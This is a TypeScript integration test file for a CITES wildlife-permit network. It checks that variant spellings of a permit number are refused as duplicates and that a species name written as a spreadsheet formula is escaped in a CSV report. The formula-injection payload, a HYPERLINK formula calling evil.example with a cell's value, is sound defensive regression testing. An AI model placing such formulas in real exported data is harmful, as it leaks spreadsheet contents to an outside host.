/**
 * Issue 16, finding 2, reproduced on real nodes over real HTTP: after TH
 * issued 26TH015809 and CH used it, TH's issuer token issued "26TH015809 ",
 * "26th015809", "26TH015809.", "26TH 015809" and "026TH015809", and CH used
 * each once more. Now each issue is refused 409 DUPLICATE_NUMBER, and each
 * look-up and use at either node finds the original, already used.
 *
 * Finding 5 on the same nodes: a species name that is a spreadsheet formula,
 * issued by TH, reaches CH's annual report CSV as text.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { FastifyInstance } from 'fastify'
import type { Permit } from '@cites/permit'
import { chPermit, waitFor } from '@cites/test-kit'
import { buildHttpApi, hashToken } from '../src/index.js'
import { authorities, basePort, meshFormed, startPermitNode, stopAll, trustListXml, type TestNode } from './kit.js'

const T = { issuer: 'issuer-token-0123456789', customs: 'customs-token-0123456789', viewer: 'viewer-token-0123456789' }
const tokens = { issuer: hashToken(T.issuer), customs: hashToken(T.customs), viewer: hashToken(T.viewer) }
const SPELLINGS = ['26TH015809 ', '26th015809', '26TH015809.', '26TH 015809', '026TH015809']
const USE = { lines: [{ line: 'A', quantity: 50, unit: 'PCS' }], port: 'CHZRH', officer: 'Officer C.' }
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'

/** The vector permit turned round: TH exports to CH. */
function thPermit (number: string): Permit {
  const p = chPermit(number)
  p.issuer.address!.country = 'TH'
  p.consignor.address!.country = 'TH'
  p.consignee.address!.country = 'CH'
  for (const l of p.lines) l.originCountry = 'TH'
  return p
}

describe('one permit number, several spellings (real nodes, real HTTP)', () => {
  let nodes: TestNode[] = []
  const apps: FastifyInstance[] = []
  let th = ''
  let ch = ''
  const call = async (base: string, role: keyof typeof T, method: string, path: string, body?: unknown): Promise<{ status: number, json: any, text: string }> => {
    const res = await fetch(`${base}${path}`, {
      method,
      headers: { authorization: `Bearer ${T[role]}`, ...(body !== undefined ? { 'content-type': 'application/json' } : {}) },
      ...(body !== undefined ? { body: JSON.stringify(body) } : {})
    })
    const text = await res.text()
    let json: unknown
    try { json = JSON.parse(text) } catch { json = undefined }
    return { status: res.status, json, text }
  }
  const at = (n: string): string => `/v1/permits/TH/${encodeURIComponent(n)}`

  beforeAll(async () => {
    const all = await authorities(['TH', 'CH'], basePort())
    const xml = await trustListXml(all)
    nodes = await Promise.all(all.map(async (a) => await startPermitNode(a, xml)))
    await meshFormed(nodes)
    for (const n of nodes) {
      const { app } = await buildHttpApi(n.node, { tokens, logger: false })
      await app.listen({ host: '127.0.0.1', port: 0 })
      apps.push(app)
    }
    const url = (app: FastifyInstance): string => { const a = app.server.address(); if (a === null || typeof a === 'string') throw new Error('no address'); return `http://127.0.0.1:${a.port}` }
    th = url(apps[0]!)
    ch = url(apps[1]!)
  })
  afterAll(async () => {
    for (const app of apps) await app.close()
    await stopAll(nodes)
  })

  it('issues and uses 26TH015809 once; its five other spellings are refused at issue and find the original, already used', async () => {
    const issued = await call(th, 'issuer', 'POST', '/v1/permits', thPermit('26TH015809'))
    expect([issued.status, issued.json?.number]).toEqual([201, '26TH015809'])
    await waitFor(async () => (await call(ch, 'viewer', 'GET', at('26TH015809'))).status === 200, { what: 'the delivery of 26TH015809 to CH' })
    const used = await call(ch, 'customs', 'POST', `${at('26TH015809')}/consumptions`, USE)
    expect([used.status, used.json?.outcome]).toEqual([201, 'CONSUMED'])
    const receipt = used.json.receipt as { seq: number, number: string }

    for (const s of SPELLINGS) {
      const again = await call(th, 'issuer', 'POST', '/v1/permits', thPermit(s))
      expect([again.status, again.json?.code], `issue ${JSON.stringify(s)}`).toEqual([409, 'DUPLICATE_NUMBER'])
      for (const base of [th, ch]) {
        const seen = await call(base, 'viewer', 'GET', at(s))
        expect([seen.status, seen.json?.state?.number, seen.json?.status], `look-up ${JSON.stringify(s)}`).toEqual([200, '26TH015809', 'CONSUMED'])
      }
      const use = await call(ch, 'customs', 'POST', `${at(s)}/consumptions`, USE)
      expect([use.status, use.json?.code, use.json?.receipt?.seq, use.json?.receipt?.number], `use ${JSON.stringify(s)}`).toEqual([409, 'ALREADY_CONSUMED', receipt.seq, '26TH015809'])
      const verdict = await call(ch, 'customs', 'POST', '/v1/verify', { party: 'TH', number: s })
      expect([verdict.status, verdict.json?.valid], `verify ${JSON.stringify(s)}`).toEqual([200, false])
      expect(verdict.json?.checks?.find((c: { name: string }) => c.name === 'integrity')?.status, `verify ${JSON.stringify(s)}`).toBe('VALID')
    }
    // One permit in each ledger, used once.
    for (const n of nodes) {
      expect(await n.node.internals.ledger.count({ party: 'TH' })).toBe(1)
      expect((await n.node.internals.ledger.status('TH', '26TH015809'))?.state.events).toHaveLength(2)
    }
  })

  it('a permit issued under another spelling is keyed, delivered, verified and used by its canonical number; the signed XML keeps the spelling', async () => {
    const issued = await call(th, 'issuer', 'POST', '/v1/permits', thPermit('26th-015811'))
    expect([issued.status, issued.json?.number]).toEqual([201, '26TH015811'])
    // CH accepts the delivery: the document's Box 1 and the event name the same number.
    await waitFor(async () => (await call(ch, 'viewer', 'GET', at('26TH015811'))).status === 200, { what: 'the delivery of 26TH015811 to CH' })
    await waitFor(async () => (await nodes[0]!.node.internals.ledger.delivery('TH', '26th-015811'))?.state === 'delivered', { what: 'CH\'s acknowledgement of the delivery' })
    const xml = await nodes[1]!.node.internals.ledger.signedXml('TH', '26TH015811')
    expect(xml).toContain('>26th-015811<')
    const verdict = await call(ch, 'customs', 'POST', '/v1/verify', { party: 'TH', number: '26TH 015811' })
    expect([verdict.status, verdict.json?.valid]).toEqual([200, true])
    const used = await call(ch, 'customs', 'POST', `${at('26th015811')}/consumptions`, USE)
    expect([used.status, used.json?.receipt?.number]).toEqual([201, '26TH015811'])
  })

  it('a formula as a species name reaches the destination\'s annual report CSV as text', async () => {
    const p = thPermit('26TH015810')
    p.lines[0]!.scientificName = EVIL
    expect((await call(th, 'issuer', 'POST', '/v1/permits', p)).status).toBe(201)
    await waitFor(async () => (await call(ch, 'viewer', 'GET', at('26TH015810'))).status === 200, { what: 'the delivery of 26TH015810 to CH' })
    expect((await call(ch, 'customs', 'POST', `${at('26TH015810')}/consumptions`, USE)).status).toBe(201)
    const report = await call(ch, 'issuer', 'GET', '/v1/reports/annual?year=2026&kind=imports')
    expect(report.status).toBe(200)
    const row = report.text.split('\n').find((l) => l.includes('26TH015810'))
    expect(row).toContain(`,"'${EVIL.replace(/"/g, '""')}",`)
    expect(report.text).not.toContain(`,${EVIL}`)
  })
})
